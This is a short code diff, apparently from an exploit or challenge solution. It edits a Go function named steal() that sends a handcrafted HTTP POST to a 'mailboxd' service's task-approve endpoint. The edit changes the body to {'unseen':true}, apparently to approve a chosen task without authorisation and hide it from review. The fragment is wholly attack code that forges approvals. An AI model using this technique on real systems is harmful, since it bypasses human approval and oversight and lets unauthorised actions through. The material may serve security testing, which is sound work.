@@ -159,7 +159,7 @@ func steal() {
 		if err != nil {
 			continue
 		}
-		fmt.Fprintf(conn, "POST /v1/tasks/%s/approve HTTP/1.1\r\nHost: mailboxd\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}", target)
+		fmt.Fprintf(conn, "POST /v1/tasks/%s/approve HTTP/1.1\r\nHost: mailboxd\r\nContent-Length: 15\r\nConnection: close\r\n\r\n{\"unseen\":true}", target)
 		got, err := io.ReadAll(conn)
 		answer(fmt.Sprint(string(got), err))
 		return
